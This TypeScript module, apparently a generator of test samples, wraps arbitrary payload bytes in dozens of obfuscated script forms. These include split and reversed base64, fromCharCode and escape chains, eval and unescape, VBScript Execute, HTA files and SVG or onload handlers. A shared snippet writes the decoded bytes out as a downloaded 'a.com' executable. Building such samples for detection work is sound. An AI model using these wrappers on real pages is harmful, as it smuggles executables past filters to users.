/** Scripts that put a file together from their literals, and files that are such scripts. */
const save =
  "var b=new Blob([d]);var l=document.createElement('a');l.href=URL.createObjectURL(b);l.download='a.com';l.click();";
const pieces = (payload: Buffer): string[] => payload.toString("base64").match(/.{1,10}/g) ?? [];
const backwards = (text: string): string => text.split("").reverse().join("");
const quote = (text: string): string => JSON.stringify(text);
const half = (payload: Buffer, index: 0 | 1): string => {
  const text = payload.toString("latin1");
  return index === 0 ? text.slice(0, 20) : text.slice(20);
};

/** What stands in a script element. */
export const hidingScripts: Readonly<Record<string, (payload: Buffer) => string>> = {
  "strings that are added": (payload) => `var d=atob(${pieces(payload).map(quote).join("+")});${save}`,
  "strings that are added line by line": (payload) =>
    `var s="";\n${pieces(payload)
      .map((piece) => `s+='${piece}';`)
      .join("\n")}\nvar d=atob(s);${save}`,
  "strings in variables": (payload) =>
    `${pieces(payload)
      .map((piece, index) => `var v${index}="${piece}";`)
      .join("")}var d=atob(${pieces(payload)
      .map((_, index) => `v${index}`)
      .join("+")});`,
  "strings in members": (payload) =>
    `var o={${pieces(payload)
      .map((piece, index) => `k${index}:"${piece}"`)
      .join(",")}};var d=atob(${pieces(payload)
      .map((_, index) => `o.k${index}`)
      .join("+")});`,
  "strings in an array, out of order": (payload) =>
    `var _0x=[${pieces(payload).reverse().map(quote).join(",")}];var d=atob(${pieces(payload)
      .map((_, index) => `_0x[${pieces(payload).length - 1 - index}]`)
      .join("+")});`,
  "an array that is joined": (payload) => `var d=atob([${pieces(payload).map(quote).join(",")}].join(''));`,
  "an array that is joined in a loop": (payload) =>
    `var a=[${pieces(payload).map(quote).join(",")}],s='';for(var i in a)s+=a[i];${save}`,
  "strings and comments": (payload) => `var d=atob(${pieces(payload).map(quote).join(" /* x */ + // y\n")});`,
  "a call for each string": (payload) =>
    `var d=${pieces(payload)
      .map((piece) => `f("${piece}")`)
      .join("+")};`,
  "concat()": (payload) => `var d=atob("".concat(${pieces(payload).map(quote).join(",")}));`,
  "a plain array of octets": (payload) => `var d=new Uint8Array([${[...payload].join(",")}]);${save}`,
  "Uint8Array.from()": (payload) => `var d=Uint8Array.from([${[...payload].join(", ")}]);`,
  "octets in hexadecimal": (payload) => `var d=[${[...payload].map((octet) => `0x${octet.toString(16)}`).join(",")}];`,
  "signed octets": (payload) => `var d=new Int8Array([${[...payload].map((octet) => octet - 0).join(",")},-1,-128]);`,
  "fromCharCode() of all": (payload) => `document.write(String.fromCharCode(${[...payload].join(",")}));`,
  "fromCharCode() of each": (payload) =>
    `var d=${[...payload].map((octet) => `String.fromCharCode(${octet})`).join("+")};`,
  "fromCharCode() of sums": (payload) =>
    `var d=String.fromCharCode(${[...payload].map((octet) => `${octet - 7}+7`).join(",")});`,
  "codes in a string": (payload) => `var a="${[...payload].join(",")}".split(",");`,
  "escapes of octets": (payload) =>
    `var d="${[...payload].map((octet) => `\\x${octet.toString(16).padStart(2, "0")}`).join("")}";`,
  "escapes of characters": (payload) =>
    `var d='${[...payload].map((octet) => `\\u00${octet.toString(16).padStart(2, "0")}`).join("")}';`,
  "octal escapes": (payload) =>
    `var d='${[...payload].map((octet) => `\\${octet.toString(8).padStart(3, "0")}`).join("")}';`,
  "escape()": (payload) =>
    `document.write(unescape("${[...payload].map((octet) => `%${octet.toString(16).padStart(2, "0")}`).join("")}"));`,
  "escape() of characters": (payload) =>
    `eval(unescape("${[...payload].map((octet) => `%u00${octet.toString(16).padStart(2, "0")}`).join("")}"));`,
  "hexadecimal digits in pieces": (payload) =>
    `var d="${payload.toString("hex").slice(0, 41)}"+"${payload.toString("hex").slice(41)}";`,
  "base64 backwards": (payload) =>
    `var d=atob("${backwards(payload.toString("base64"))}".split("").reverse().join(""));`,
  "base64 backwards, turned in a loop": (payload) =>
    `var s="${backwards(payload.toString("base64"))}",o="";for(var i=s.length;i--;)o+=s[i];${save}`,
  "a filler that is taken out": (payload) =>
    `var d=atob("${payload.toString("base64").replace(/.{3}/g, "$&@#")}".replace(/@#/g,""));`,
  "a filler that is split at": (payload) =>
    `var d=atob("${payload.toString("base64").replace(/.{3}/g, "$&@#")}".split("@#").join(""));`,
  "a template": (payload) =>
    `var d=\`${pieces(payload).slice(0, 2).join("\\\n")}\`+"${pieces(payload).slice(2).join("")}";`,
  "text in pieces": (payload) => `document.write(${quote(half(payload, 0))}+${quote(half(payload, 1))});`,
  "a script in a script": (payload) => `eval("var d=a"+"tob(\\"${pieces(payload).join('\\"+\\"')}\\")");`,
};

const added = (payload: Buffer, operator: string): string => pieces(payload).map(quote).join(operator);

/** Files that are scripts, and documents with scripts elsewhere than in an element for it. */
export const hidingFiles: Readonly<Record<string, (payload: Buffer) => string>> = {
  "JavaScript: strings that are added": (payload) => `var d = ${added(payload, " + ")};\nWScript.Echo(d);`,
  "JavaScript: codes": (payload) => `eval(String.fromCharCode(${[...payload].join(",")}));`,
  "VBScript: strings that are added": (payload) =>
    `Dim d\r\n' don't\r\nd = ${added(payload, " & _\r\n  ")}\r\nMsgBox d\r\n`,
  "VBScript: codes": (payload) =>
    `Dim d\r\nd = ${[...payload].map((octet) => `Chr(${octet})`).join(" & ")}\r\nExecute d\r\n`,
  "VBScript: codes in hexadecimal": (payload) =>
    `Execute ${[...payload].map((octet) => `ChrW(&H${octet.toString(16)})`).join("&")}\r\n`,
  "VBScript: an array of codes": (payload) => `Dim a\r\na = Array(${[...payload].join(",")})\r\n`,
  "VBScript: backwards": (payload) => `Dim d\r\nd = StrReverse("${backwards(payload.toString("base64"))}")\r\n`,
  "VBScript: a filler": (payload) =>
    `Dim d\r\nd = Replace("${payload.toString("base64").replace(/.{3}/g, "$&#")}", "#", "")\r\n`,
  "a handler of an event": (payload) => `<body onload="f('${pieces(payload).join("'+'")}')">`,
  "a handler with references": (payload) => `<img onerror="f(&#39;${pieces(payload).join("&#39;+&#39;")}&#39;)">`,
  "an address with a script": (payload) =>
    `<a href=" java&#10;script:f('${pieces(payload).join("'%2B'").replaceAll("%2B", "+")}')">x</a>`,
  "a picture with a script": (payload) =>
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[f("${pieces(payload).join('"+"')}")]]></script></svg>`,
  "a picture with a page": (payload) =>
    `<svg><foreignObject><body onload='f("${pieces(payload).join('"+"')}")'></body></foreignObject></svg>`,
  "a picture with a script of references": (payload) =>
    `<svg><script>f(&#34;${pieces(payload).join("&#34;+&#34;")}&#34;)</script></svg>`,
  "an application of HTML": (payload) =>
    `<HTA:APPLICATION ID="a"><script language="VBScript">d = ${added(payload, " & ")}\r\n</script>`,
  "a page in UTF-16": (payload) => `\ufeff<html><script>var d=${added(payload, "+")};</script></html>`,
};
